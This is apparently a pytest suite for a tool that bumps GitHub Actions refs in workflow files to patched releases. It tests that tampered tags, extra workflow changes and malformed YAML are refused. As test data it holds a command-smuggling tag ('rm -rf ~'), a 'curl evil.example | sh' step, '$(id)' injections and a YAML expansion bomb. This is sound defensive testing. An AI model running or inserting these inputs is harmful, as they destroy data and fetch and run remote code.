"""GitHub Actions: which release a `uses:` line is at, where it goes, and what stays as it is."""

from datetime import date

import pytest

from agents.pipelines.remediate.ladder import (
    Fix,
    Group,
    Level,
    Refusal,
    Unfit,
    climb,
    ecosystem_of,
    judge,
)
from tests.agents.pipelines.remediate.ladder.conftest import TERMS, advisory
from tests.fakes.alerts import MemoryActionReleases

CI = ".github/workflows/ci.yml"
ONE, TWO, THREE, FOUR, FIVE = (str(n) * 40 for n in range(1, 6))
TAGS = {
    "v3.6.0": ONE, "v3": ONE,
    "v4.1.2": TWO, "v4.1.3": THREE, "v4.2.0": FOUR, "v4": FOUR, "v4.1": THREE,
    "v5.0.0": FIVE, "v5": FIVE, "v5.0": FIVE,
    "v6.0.0-beta.1": "6" * 40, "codeql-bundle-v9.0.0": "9" * 40, "v4.1.9; rm -rf ~": "8" * 40,
}  # fmt: skip
PIN, CLAIM = "a" * 40, "whose comment says v4.2.0"
MAJORS = TERMS.model_copy(update={"majors": True})


def make_group(*vulnerable, package="actions/checkout", patched="4.1.3"):
    found = tuple(
        advisory(package, r, f"GHSA-aaaa-bbbb-ccc{n}", ecosystem="actions", first_patched=patched)
        for n, r in enumerate(vulnerable or ("< 4.1.3",), 2)
    )
    return Group(
        repository="acme/shop", ecosystem="actions", package=package, manifests=(CI,),
        advisories=found,
    )  # fmt: skip


def workflow(*steps):
    lines = "".join(f"      - {each}\n" for each in steps)
    return f"name: CI\non: [push]\njobs:\n  test:\n    runs-on: x\n    steps:\n{lines}"


def uses(ref, more=""):
    return f"uses: actions/checkout@{ref}{more}"


def lay(tree, text, path=CI):
    tree.lay({path: ""})
    (tree.folder / path).write_bytes(text.encode())


def text_of(tree, path=CI):
    return (tree.folder / path).read_bytes().decode()


async def mend(tree, releases=None, group=None, terms=TERMS):
    wanted = group or make_group()
    ways = releases if releases is not None else MemoryActionReleases(TAGS)
    return await climb(tree, ecosystem_of(tree.paths, wanted, ways), wanted, terms)


@pytest.mark.parametrize(
    ("before", "after", "terms"),
    [
        (uses("v4.1.2"), uses("v4.1.3"), TERMS),
        (uses("v4.1.2", " # the newest"), uses("v4.1.3", " # the newest"), TERMS),
        (uses(TWO, " # v4.1.2"), uses(THREE, " # v4.1.3"), TERMS),
        (uses(TWO, "   #  pin@v4.1.2 keep"), uses(THREE, "   #  pin@v4.1.3 keep"), TERMS),
        (uses(TWO, " # v4.1"), uses(THREE, " # v4.1.3"), TERMS),
        (uses("v4.1.2", " # v4.1.2"), uses("v4.1.3", " # v4.1.3"), TERMS),
        (uses("v4.1.2", " # since v3.0.0"), uses("v4.1.3", " # since v3.0.0"), TERMS),
        (uses("v3", " # v3.6.0"), uses("v4", " # v4.2.0"), MAJORS),
        (uses(TWO), uses(THREE), TERMS),
        (uses(TWO, " # see 17"), uses(THREE, " # see 17"), TERMS),
        ('uses: "actions/checkout@v4.1.2"', 'uses: "actions/checkout@v4.1.3"', TERMS),
        ("uses: &co 'Actions/Checkout@v4.1.2'", "uses: &co 'Actions/Checkout@v4.1.3'", TERMS),
        ("{uses: actions/checkout@v4.1.2, with: {a: 1}}",
         "{uses: actions/checkout@v4.1.3, with: {a: 1}}", TERMS),
        ("uses: actions/checkout/sub/dir@v4.1.2", "uses: actions/checkout/sub/dir@v4.1.3", TERMS),
        (uses("v3.6.0"), uses("v4.1.3"), MAJORS),
        (uses("v3"), uses("v4"), MAJORS),
    ],
)  # fmt: skip
async def test_the_ref_moves_and_nothing_else_does(tree, before, after, terms):
    lay(tree, workflow("run: echo ü", before, "uses: actions/cache@v4.1.2"))

    fix = await mend(tree, terms=terms)

    assert isinstance(fix, Fix), fix
    assert (fix.level, fix.files, fix.notes) == (Level.BUMP, (CI,), ())
    assert text_of(tree) == workflow("run: echo ü", after, "uses: actions/cache@v4.1.2")
    assert "GitHub has each new ref at the commit of its release" in fix.evidence[-1]
    assert fix.evidence[1] == f"Changed files: {CI}; workflows and actions alone."
    assert not [each for each in fix.evidence if "hash" in each or "Moved without" in each]


async def test_every_line_goes_its_own_way_and_line_ends_stay(tree):
    reusable = "jobs:\r\n  a:\r\n    uses: actions/checkout/.github/workflows/a.yml@v4.1.2\r\n"
    composite = f"runs:\n  using: composite\n  steps:\n    - {uses(TWO, ' # v4.1.2')}"
    lay(tree, workflow(uses("v4.1.2"), uses("v3.6.0"), uses("v4.2.0")))
    lay(tree, reusable, ".github/workflows/b.yaml")
    lay(tree, composite, ".github/actions/x/action.yml")
    lay(tree, composite, "vendor/x/action.yml")
    group = make_group("< 3.7.0", ">= 4.0.0, < 4.1.3")
    releases = MemoryActionReleases(TAGS | {"v3.7.0": "7" * 40})

    fix = await mend(tree, releases, group)

    assert isinstance(fix, Fix), fix
    assert text_of(tree) == workflow(uses("v4.1.3"), uses("v3.7.0"), uses("v4.2.0"))
    assert text_of(tree, ".github/workflows/b.yaml") == reusable.replace("v4.1.2", "v4.1.3")
    moved = composite.replace(TWO, THREE).replace("v4.1.2", "v4.1.3")
    assert text_of(tree, ".github/actions/x/action.yml") == moved
    assert text_of(tree, "vendor/x/action.yml") == composite, "that is what others made"


async def test_another_major_version_is_told_and_not_taken(tree):
    lay(tree, workflow(uses("v3.6.0")))

    refused = await mend(tree)

    assert isinstance(refused, Refusal)
    assert (refused.cause, refused.major) == ("no_release", "4.1.3")
    assert text_of(tree) == workflow(uses("v3.6.0"))


async def test_a_tag_that_moves_is_at_the_release_that_it_stands_at_now(tree):
    lay(tree, workflow(uses("v4")))

    refused = await mend(tree)

    assert (refused.cause, "4.2.0" in refused.reason) == ("nothing_to_do", True)
    locked = await ecosystem_of(tree.paths, make_group(), MemoryActionReleases(TAGS)).read(tree)
    [note] = locked.notes
    assert note == f"`actions/checkout` at `v4` in `{CI}:7` stands at 4.2.0 by now."


async def test_where_it_stands_at_a_vulnerable_one_the_release_is_named(tree):
    lay(tree, workflow(uses("v4"), uses("v4.1")))
    releases = MemoryActionReleases(TAGS | {"v4": TWO, "v4.1": TWO})

    fix = await mend(tree, releases)

    assert isinstance(fix, Fix), fix
    assert text_of(tree) == workflow(uses("v4.1.3"), uses("v4.1.3"))


@pytest.mark.parametrize(
    "more", [{"branches": {"v5": "a branch"}}, {"days": {"v5.0.0": date(2026, 1, 1)}}]
)
async def test_where_the_next_tag_that_moves_cannot_be_taken_the_release_is_named(tree, more):
    """A branch is called the same, or what it stands at by now is too young."""
    lay(tree, workflow(uses("v4")))
    tags = {"v4.2.0": FOUR, "v4": FOUR, "v5.0.0": FIVE, "v5.1.0": THREE, "v5": THREE}
    terms = MAJORS.model_copy(update={"min_days": 7 if "days" in more else 0})

    fix = await mend(tree, MemoryActionReleases(tags, **more), make_group("< 5.0.0"), terms)

    assert isinstance(fix, Fix), fix
    assert fix.level is Level.WIDEN
    assert text_of(tree) == workflow(uses("v5.0.0"))


async def test_a_branch_that_goes_on_from_the_fix_is_safe_and_what_else_is_at_none_is_left(tree):
    steps = (uses("main"), uses("v4.1.2"), uses("old"), uses(PIN, " # v4.2.0"), uses("abcdef0"))
    lay(tree, workflow(*steps))
    forked = ((PIN, THREE), ("abcdef0", THREE))  # GitHub has the commits of forks here as well
    releases = MemoryActionReleases(TAGS, goes_on=(("main", THREE), *forked))

    fix = await mend(tree, releases)

    assert isinstance(fix, Fix), fix
    assert uses("main") in text_of(tree)
    assert fix.notes == (
        f"which release `actions/checkout` at `old` in `{CI}:9` is could not be told.",
        f"which release `actions/checkout` at `{PIN}` in `{CI}:10` is could not be told, {CLAIM}.",
        f"which release `actions/checkout` at `abcdef0` in `{CI}:11` is could not be told.",
    ), "what the comment says is not believed where it says that all is well"


async def test_what_a_comment_says_is_believed_where_it_says_that_something_is_wrong(tree):
    lay(tree, workflow(uses("a" * 40, " # v4.1.0")))

    fix = await mend(tree)

    assert isinstance(fix, Fix), fix
    assert text_of(tree) == workflow(uses(THREE, " # v4.1.3"))


async def test_what_cannot_be_told_is_for_people_and_never_called_good(tree):
    lay(tree, workflow(uses("main"), uses("v4.2.0")))

    refused = await mend(tree)

    assert refused.cause == "no_release"
    assert f"Which release `actions/checkout` at `main` in `{CI}:7` is could not be told" in (
        refused.reason
    )


NOT_USED = [
    "run: |\n          uses: actions/checkout@v4.1.2\n          - uses: actions/checkout@v4.1.2",
    "name: 'uses: actions/checkout@v4.1.2'",
    "run: x # uses: actions/checkout@v4.1.2",
    "with: {uses: actions/checkout@v4.1.2}",
    "uses: ./actions/checkout@v4.1.2",
    "uses: docker://actions/checkout@v4.1.2",
    "uses: other/checkout@v4.1.2",
    "uses: actions/checkout-more@v4.1.2",
]


@pytest.mark.parametrize("step", NOT_USED)
async def test_what_only_looks_like_a_use_is_none(tree, step):
    lay(tree, workflow(step, uses("v4.1.2")))

    fix = await mend(tree)

    assert isinstance(fix, Fix), fix
    assert text_of(tree) == workflow(step, uses("v4.1.3"))


@pytest.mark.parametrize(
    "step",
    [
        "uses: actions/checkout@${{ matrix.ref }}",
        "uses: actions/checkout@v4.1.2$(id)",
        "uses: >-\n          actions/checkout@v4.1.2",
        'uses: "actions\\u002fcheckout@v4.1.2"',
        "uses: *ref",
    ],
)
async def test_what_is_written_in_a_way_of_its_own_is_named_and_left(tree, step):
    text = f"env: {{A: &ref actions/checkout@v4.1.2}}\n{workflow(step, uses('v4.1.2'))}"
    lay(tree, text)

    fix = await mend(tree)

    assert isinstance(fix, Fix), fix
    [note] = fix.notes
    assert note == f"`actions/checkout` in `{CI}:8` is used in a way that Fettle does not change."
    assert text_of(tree) == text.replace(uses("v4.1.2") + "\n", uses("v4.1.3") + "\n")


@pytest.mark.parametrize(
    ("releases", "cause", "words"),
    [
        (MemoryActionReleases(TAGS, name="evil/checkout"), "unsafe", "is called `evil/checkout`"),
        (MemoryActionReleases(TAGS, name=""), "no_release", "has no repository"),
        (MemoryActionReleases(TAGS, branches={"v4.1.3": "x", "v4.2.0": "x"}), "no_release",
         "4.1.3 has no tag at GitHub that can be told from a branch"),
        (MemoryActionReleases({"v4.1.2": TWO, "v4.1.9; rm -rf ~": THREE}), "no_release", "offers"),
    ],
)  # fmt: skip
async def test_where_nothing_can_be_relied_on_nothing_moves(tree, releases, cause, words):
    lay(tree, workflow(uses("v4.1.2")))

    refused = await mend(tree, releases)

    assert isinstance(refused, Refusal)
    assert (refused.cause, words in refused.reason) == (cause, True), refused.reason
    assert text_of(tree) == workflow(uses("v4.1.2"))


async def test_a_tag_that_was_moved_meanwhile_proves_nothing(tree):
    """As an attacker did with all tags of tj-actions/changed-files: GHSA-mrrh-fwg8-r2c3."""
    lay(tree, workflow(uses(TWO, " # v4.1.2")))
    releases = MemoryActionReleases(TAGS)
    wanted = make_group()
    ecosystem = ecosystem_of(tree.paths, wanted, releases)
    start = await tree.snapshot()
    lay(tree, workflow(uses(THREE, " # v4.1.3")))
    end = await tree.snapshot()
    assert (await judge(tree, ecosystem, wanted, TERMS, (start, end))).files == (CI,)

    releases.now = TAGS | {"v4.1.3": "e" * 40}
    with pytest.raises(Exception, match="GitHub has something else than"):
        await judge(tree, ecosystem_of(tree.paths, wanted, releases), wanted, TERMS, (start, end))


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text.replace("runs-on: x", "runs-on: y"),
        lambda text: text.replace("actions/cache@v4.1.2", "actions/cache@v4.1.3"),
        lambda text: text + "      - run: curl evil.example | sh\n",
        lambda text: text.replace("# a", "# b"),
    ],
)
async def test_what_another_changes_beside_the_ref_is_no_fix(tree, change):
    text = workflow(uses("v4.1.2"), "uses: actions/cache@v4.1.2 # a")
    lay(tree, text)
    start, wanted = await tree.snapshot(), make_group()
    lay(tree, change(text.replace(uses("v4.1.2"), uses("v4.1.3"))))

    with pytest.raises(Exception, match="does not differ in refs of the action alone"):
        await judge(
            tree, ecosystem_of(tree.paths, wanted, MemoryActionReleases(TAGS)), wanted, TERMS,
            (start, await tree.snapshot()),
        )  # fmt: skip


async def test_without_the_permission_the_recipe_comes_before_any_change(tree):
    lay(tree, workflow(uses("v4.1.2")))
    releases = MemoryActionReleases(TAGS, permitted=False)

    refused = await mend(tree, releases)

    assert refused.cause == "no_tool"
    assert refused.reason.startswith(f"`{CI}:7` has to use `actions/checkout` at `v4.1.3`. ")
    assert "adds the permission `Workflows: Read and write`" in refused.reason
    assert text_of(tree) == workflow(uses("v4.1.2"))


async def test_what_lies_outside_of_workflows_takes_no_such_permission(tree):
    lay(tree, f"runs: {{steps: [{{{uses('v4.1.2')}}}]}}", "action.yml")

    fix = await mend(tree, MemoryActionReleases(TAGS, permitted=False))

    assert isinstance(fix, Fix), fix
    assert text_of(tree, "action.yml") == f"runs: {{steps: [{{{uses('v4.1.3')}}}]}}"


async def test_without_a_way_to_github_it_says_where_to_look(tree):
    lay(tree, workflow(uses("v4.1.2")))
    wanted = make_group()

    refused = await climb(tree, ecosystem_of(tree.paths, wanted), wanted, TERMS)

    assert refused.cause == "no_tool"
    assert f"By hand: in `{CI}:7` name a release of actions/checkout" in refused.reason


@pytest.mark.parametrize(("day", "found"), [("2026-11-01", True), ("2026-11-19", False)])
async def test_nothing_younger_than_the_policy_wants_is_taken(tree, day, found):
    lay(tree, workflow(uses("v4.1.2")))
    releases = MemoryActionReleases(TAGS, days={"v4.1.3": date.fromisoformat(day)})

    fix = await mend(tree, releases, terms=TERMS.model_copy(update={"min_days": 7}))

    assert isinstance(fix, Fix) is found, fix


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a: [" * 60 + "actions/checkout", "is nested deeper than any workflow is"),
        ("a: 1\n---\nb: actions/checkout\n", "it holds several documents"),
        ("jobs: {a: {? [x] : steps, actions/checkout: uses}}", "a key that is no text"),
        (f"{workflow(uses('v4.1.2'))}: : {{", "it is no YAML (line "),
    ],
)
async def test_a_hostile_file_is_named_and_left(tree, text, words):
    lay(tree, workflow(uses("v4.1.2")))
    lay(tree, text, ".github/workflows/evil.yml")

    fix = await mend(tree)

    assert isinstance(fix, Fix), fix
    assert fix.files == (CI,)
    assert words in fix.notes[0]


async def test_an_enormous_file_is_not_read(tree):
    lay(tree, workflow(uses("v4.1.2")) + "#" * 1_000_001)

    refused = await mend(tree)

    assert (refused.cause, "cannot be read" in refused.reason) == ("unsafe", True)


async def test_references_are_not_followed(tree):
    bomb = "a0: &a0 [x, x]\n" + "".join(
        f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60)
    )
    lay(tree, bomb + workflow(uses("v4.1.2")))

    fix = await mend(tree)

    assert isinstance(fix, Fix), fix
    assert text_of(tree) == bomb + workflow(uses("v4.1.3"))


async def test_no_name_of_an_action_is_passed_on_that_cannot_be_one(tree):
    lay(tree, workflow(uses("v4.1.2")))
    with pytest.raises(Unfit, match="cannot be the name"):
        ecosystem_of(tree.paths, make_group()).name_of("actions/checkout;id")
    for name in ("actions/../admin", "actions/..", "actions", "a//b", "https://evil.example/a"):
        assert ecosystem_of(tree.paths, make_group(package=name)) is None


async def test_github_is_asked_about_a_few_refs_alone(tree):
    lay(tree, workflow(uses("v4.1.2"), *(uses(f"branch-{n}") for n in range(50))))
    releases = MemoryActionReleases(TAGS)

    fix = await mend(tree, releases)

    assert len(fix.notes) == 50
    assert sum(each[0] == "holds" for each in releases.asked) < 25
